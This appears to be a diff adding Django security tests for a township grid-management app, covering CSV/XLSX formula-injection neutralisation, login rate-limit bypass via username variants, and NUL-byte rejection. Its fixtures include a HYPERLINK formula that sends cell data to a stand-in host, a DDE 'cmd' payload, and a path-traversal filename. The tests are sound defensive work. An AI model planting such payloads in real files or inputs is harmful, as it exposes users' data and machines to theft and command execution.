@@ -324,3 +324,53 @@ def test_upload_names_are_sanitised():
     assert uploads.display_name("../../etc/passwd") == "passwd"
     assert uploads.display_name("C:\\Users\\x\\孩子.xlsx") == "孩子.xlsx"
     assert uploads.display_name("a\x00b.xlsx") == "ab.xlsx"
+
+
+# --- exports: text never becomes a formula ---------------------------------------------------------
+
+def test_formula_injection_is_neutralised_in_every_export(tmp_path):
+    from openpyxl import load_workbook
+
+    from importers.report import ImportReport
+
+    cadre = Responsibility.objects.filter(role="group_cadre", area__code__startswith=A, end_date=None).first()
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    Person.objects.filter(pk=cadre.person_id).update(name=evil, phone="+8613800000000")
+    client = login(UserRole.TOWNSHIP_OFFICIAL, [A])
+    xlsx = client.get(f"/grid/{A}/cells.xlsx")
+    path = tmp_path / "cells.xlsx"
+    path.write_bytes(xlsx.content)
+    sheet = load_workbook(path).active
+    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith(("=", "+"))]
+    assert {c.value for c in cells} >= {evil, "+8613800000000"}
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # text, shown as written
+    csv_text = client.get(f"/grid/{A}/cells.csv").content.decode("utf-8-sig")
+    assert f"'{evil}".replace('"', '""') in csv_text and "'+8613800000000" in csv_text
+    assert f",{evil}" not in csv_text and f',"{evil}' not in csv_text
+    report = ImportReport("x.xlsx")
+    report.error(2, "姓名", "=cmd|' /C calc'!A0", "测试", "测试")
+    report.to_workbook(tmp_path / "problems.xlsx")
+    value = load_workbook(tmp_path / "problems.xlsx").active["E2"]
+    assert value.value == "=cmd|' /C calc'!A0" and value.data_type == "s"
+
+
+def test_login_limit_cannot_be_dodged_by_spelling_the_name_differently():
+    from django.contrib.auth import get_user_model
+    from django.test import Client
+
+    get_user_model().objects.create_user("clerk2", password="the-right-password-1")
+    client = Client()
+    for name in ("clerk2", " clerk2", "clerk2 ", "ｃｌｅｒｋ２", "\tclerk2"):
+        client.post("/login/", {"username": name, "password": "wrong"})
+    response = client.post("/login/", {"username": "clerk2", "password": "the-right-password-1"})
+    assert "_auth_user_id" not in client.session, "the sixth try must be refused"
+    assert AuditEvent.objects.filter(action="login_failed", username="clerk2").count() == 5
+    assert response.status_code == 200
+
+
+def test_nul_bytes_are_a_400_even_for_anonymous_logins():
+    from django.test import Client
+
+    client = Client()
+    response = client.post("/login/", {"username": "ad\x00min", "password": "x"})
+    assert response.status_code == 400 and "不允许的控制字符" in response.content.decode()
